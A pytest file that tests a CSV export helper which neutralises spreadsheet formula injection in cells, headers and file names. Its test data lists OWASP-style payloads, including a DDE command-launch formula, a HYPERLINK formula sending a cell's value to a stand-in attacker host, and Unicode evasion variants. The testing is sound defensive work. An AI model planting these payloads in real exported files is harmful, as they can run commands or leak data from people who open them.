from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import polars as pl
import pytest

from core.kernel.csvsafe import file_name, neutralise, safe_frame, to_csv_bytes


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+31",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=cmd",
        "\r=cmd",
        '=HYPERLINK("http://x","y")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_cells_that_a_spreadsheet_reads_as_formulas_get_an_apostrophe(cell: str) -> None:
    out = rows(to_csv_bytes(pl.DataFrame({"server": [cell]})))
    assert out == [["server"], ["'" + cell]]
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["github", "a=b", "tools/call", "x =y", "'quoted", "", "€5"])
def test_harmless_text_is_left_alone(cell: str) -> None:
    assert rows(to_csv_bytes(pl.DataFrame({"server": [cell]})))[1] == [cell]


def test_numbers_stay_numbers_and_missing_values_stay_empty() -> None:
    df = pl.DataFrame({"delta": [-12.5, None], "name": [None, "-x"]})
    assert rows(to_csv_bytes(df)) == [["delta", "name"], ["-12.5", ""], ["", "'-x"]]


def test_categorical_and_nested_columns_are_neutralised_too() -> None:
    df = pl.DataFrame({"c": pl.Series(["=a", "b"], dtype=pl.Categorical), "l": [["=x"], ["y"]]})
    out = rows(to_csv_bytes(df))
    assert out[1][0] == "'=a"
    assert out[1][1] == '["=x"]'
    assert out[2] == ["b", '["y"]']


def test_header_names_are_neutralised_when_they_come_from_labels() -> None:
    df = pl.DataFrame({"=evil": [1]})
    assert rows(to_csv_bytes(df))[0] == ["'=evil"]


def test_datetimes_are_iso_utc() -> None:
    df = pl.DataFrame({"ts": [datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)]}).with_columns(
        pl.col("ts").dt.cast_time_unit("ms")
    )
    assert rows(to_csv_bytes(df))[1] == ["2026-01-02T03:04:05.000Z"]


def test_file_name_names_view_and_range() -> None:
    assert (
        file_name("health-hosts", 1_767_225_600_000, 1_767_229_200_000)
        == "pulse-health-hosts-20260101T0000Z-20260101T0100Z.csv"
    )
    assert (
        file_name("Perf / Tools: p95", 0, 60_000) == "pulse-perf-tools-p95-19700101T0000Z-19700101T0001Z.csv"
    )
    assert file_name("../../etc", 0, 60_000).startswith("pulse-etc-")


# OWASP CSV injection payloads, with the evasions spreadsheets still evaluate: leading blanks,
# a tab or newline first, and the full-width forms that Excel and LibreOffice fold to ASCII
OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " \uff1d1",
]


@pytest.mark.parametrize("payload", OWASP)
def test_every_owasp_payload_is_neutralised_in_cells_and_headers(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    df = pl.DataFrame({"name": [payload], payload: ["x"]})
    assert safe_frame(df)["name"][0] == "'" + payload
    text = to_csv_bytes(df).decode()
    for line in csv.reader(io.StringIO(text)):
        for cell in line:
            assert not cell or not re.match(r"[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), cell


@pytest.mark.parametrize("plain", ["host-04", "a=b", "mcp_server_up", "10.0.0.1", "", "ok - fine"])
def test_plain_text_is_left_alone(plain: str) -> None:
    assert neutralise(plain) == plain
